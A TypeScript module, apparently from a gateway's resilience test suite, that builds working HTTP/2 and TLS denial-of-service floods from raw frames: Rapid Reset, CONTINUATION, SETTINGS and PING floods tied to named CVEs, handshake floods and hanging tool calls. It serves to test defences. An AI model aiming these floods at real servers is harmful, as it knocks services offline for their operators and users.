/** Floods over TLS: of handshakes, and of frames of HTTP/2 (RFC 9113). */
import { setTimeout as delay } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  literal,
  OPENING,
  PING,
  REQUEST,
  resetStreams,
  SETTINGS,
} from '../../support/http2-frames.ts';
import { modernBody, modernHeaders } from '../../support/modern-client.ts';
import { type Attack, arrived, attackerSocket, repeat } from './attacks.ts';
import type { Target } from './flooded-gateway.ts';

const secure = async (
  { tlsPort }: Target,
  address: number,
  signal: AbortSignal,
  protocol: string,
): Promise<TLSSocket> => {
  const socket = await attackerSocket(tlsPort, address, signal);
  const tls = connect({ socket, rejectUnauthorized: false, ALPNProtocols: [protocol] });
  tls.on('error', () => undefined);
  socket.once('close', () => tls.destroy());
  await new Promise<void>((resolve, reject) => {
    tls.once('secureConnect', resolve).once('close', () => reject(new Error('cut off')));
  });
  arrived();
  return tls;
};

/** What was written is on its way, or nothing more will be. */
const flowed = (tls: TLSSocket): Promise<unknown> =>
  new Promise((resolve) => {
    const done = (): void => {
      tls.off('drain', done).off('close', done);
      resolve(undefined);
    };
    tls.on('drain', done).on('close', done);
  });

/** Opens HTTP/2, sends the bursts that `bursts` makes, and stays until it is cut off or the attack ends. */
const frames = (target: Target, address: number, bursts: () => Iterable<Buffer>): Attack =>
  repeat(4, async (attacker, signal) => {
    const tls = await secure(target, address + attacker, signal, 'h2');
    tls.resume().write(OPENING);
    for (const burst of bursts()) {
      if (tls.destroyed) break;
      if (!tls.write(burst)) await flowed(tls);
    }
    if (!tls.destroyed) await new Promise((resolve) => tls.once('close', resolve));
    await delay(200, undefined, { signal, ref: false });
  });

/** Connections that are dropped as soon as they are up. */
export const handshakes = (target: Target): Attack =>
  repeat(20, async (_, signal) => {
    const tls = await secure(target, 100, signal, 'http/1.1');
    tls.destroy();
    await delay(20, undefined, { signal, ref: false });
  });

/** Streams that are reset as soon as they are opened (CVE-2023-44487). */
export const rapidReset = (target: Target): Attack =>
  frames(target, 110, function* () {
    for (let first = 1; first < 4_000; first += 200) yield resetStreams(first, 100);
  });

const CALL = modernBody('tools/call', { name: 'hang', arguments: {} });
const CALL_HEADERS = Buffer.concat([
  REQUEST.subarray(0, REQUEST.indexOf(literal('content-type', 'application/json'))),
  ...Object.entries(modernHeaders('tools/call', { name: 'hang' }, {})).map(([name, value]) =>
    literal(name.toLowerCase(), value),
  ),
]);

/** Calls that are not answered: 100 on each of 20 connections, which are cut one after the other. */
export const hangingCalls = (target: Target): Attack => {
  const calls = Array.from({ length: 100 }, (_, call) => [
    frame(HEADERS, END_HEADERS, 2 * call + 1, CALL_HEADERS),
    frame(DATA, END_STREAM, 2 * call + 1, Buffer.from(CALL)),
  ]);
  const begun = new Set<number>();
  return repeat(20, async (attacker, signal) => {
    if (!begun.has(attacker)) await delay(25 * attacker, undefined, { signal, ref: false });
    begun.add(attacker);
    const tls = await secure(target, 150 + (attacker % 4), signal, 'h2');
    tls.resume().write(Buffer.concat([OPENING, ...calls.flat()]));
    await delay(500, undefined, { signal, ref: false });
    tls.destroy();
    await delay(1_000, undefined, { signal, ref: false });
  });
};

/** Headers that never end (CVE-2024-27316). */
export const continuations = (target: Target): Attack =>
  frames(target, 120, function* () {
    yield frame(HEADERS, END_STREAM, 1, REQUEST);
    const more = frame(CONTINUATION, 0, 1, literal('x-more', 'x'.repeat(100)));
    for (let burst = 0; burst < 1_000; burst += 1)
      yield Buffer.concat(Array.from({ length: 100 }, () => more));
  });

/** Settings that all have to be acknowledged (CVE-2019-9515). */
export const settings = (target: Target): Attack =>
  frames(target, 130, function* () {
    const one = frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]));
    for (let burst = 0; burst < 500; burst += 1) yield Buffer.concat(Array.from({ length: 200 }, () => one));
  });

/** Pings that all have to be answered (CVE-2019-9512). */
export const pings = (target: Target): Attack =>
  frames(target, 140, function* () {
    const one = frame(PING, 0, 0, Buffer.alloc(8));
    for (let burst = 0; burst < 500; burst += 1) yield Buffer.concat(Array.from({ length: 200 }, () => one));
  });
